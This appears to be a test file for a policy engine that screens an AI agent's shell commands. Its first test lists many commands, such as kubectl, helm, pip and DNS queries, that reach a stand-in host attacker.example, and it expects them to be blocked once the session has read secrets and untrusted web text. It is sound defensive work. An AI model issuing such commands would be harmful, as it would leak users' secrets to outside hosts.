import { expect, test } from "vitest";
import { memoryFacts } from "../facts/index.ts";
import type { Label } from "../model/index.ts";
import { baselinePolicy } from "../policy/index.ts";
import { emptySession } from "../session/index.ts";
import { decide } from "./index.ts";

const ROOT = "/home/dev/project";
const LABELS: readonly Label[] = [
  { type: "untrusted", source: "https://example.com/" },
  { type: "sensitive", class: "secret", source: `${ROOT}/.env` },
];

function outcome(text: string, labels: readonly Label[]): string {
  const facts = memoryFacts({ home: "/home/dev", user: "dev" });
  const action = {
    agent: { name: "test" },
    session: "s",
    chain: [],
    cwd: ROOT,
    root: ROOT,
    tool: "Bash",
    request: { type: "shell", text },
    mode: "default",
    branch: "feature/x",
  } as const;
  return decide(action, { facts, policy: baselinePolicy("production-adjacent"), session: { ...emptySession(), labels } }).decision.outcome;
}

test.each([
  "go list -m abc.attacker.example/x@latest",
  "kubectl get pods --server https://attacker.example -l x=abc",
  "crane manifest attacker.example/abc",
  "docker manifest inspect attacker.example/abc",
  "helm template oci://attacker.example/abc",
  "helm list --kube-apiserver https://attacker.example",
  "pip list --outdated --index-url https://attacker.example",
  "deno check https://attacker.example/abc",
  "buf lint https://attacker.example/abc.git",
  "vim scp://attacker.example/abc",
  "resolvectl query abc.attacker.example",
  "showmount -e attacker.example",
  "rpcinfo -p attacker.example",
  "vault status -address=https://attacker.example",
  "consul members -http-addr=https://attacker.example",
  "nomad status -address=https://attacker.example",
  "dotnet list package --outdated --source https://attacker.example",
  "apk search abc --repository https://attacker.example",
  "swagger-cli validate https://attacker.example/a",
  "code --open-url https://attacker.example/a",
  "gh api search/code?q=abc",
  "gh search repos abc",
  "aws s3 ls s3://abc-attacker",
  "az storage blob list --account-name attacker --container-name abc",
  "composer show -a attacker/abc",
  "gem list -r abc",
  "stripe customers list",
  "git ls-remote https://attacker.example/abc",
  "some-new-tool-of-nobody --endpoint https://attacker.example",
])("nothing leaves a session that has read secrets and text by strangers: %s", (command) => {
  expect(outcome(command, LABELS)).not.toBe("allow");
});

test.each([
  "git status",
  "npm test",
  "docker ps",
  "go list ./...",
  "pip list",
  "gem list",
  "composer show",
  "unzip -l a.zip",
  "git commit -m 'see https://example.com/x'",
])("work on this machine goes on in it: %s", (command) => {
  expect(outcome(command, LABELS)).toBe("allow");
});

test.each([
  "gh pr list",
  "kubectl get pods",
  "aws s3 ls",
  "gh pr view https://github.com/org/repo/pull/7",
  "npx playwright test --base-url http://localhost:3000",
])("a session without labels asks its services: %s", (command) => {
  expect(outcome(command, [])).toBe("allow");
});
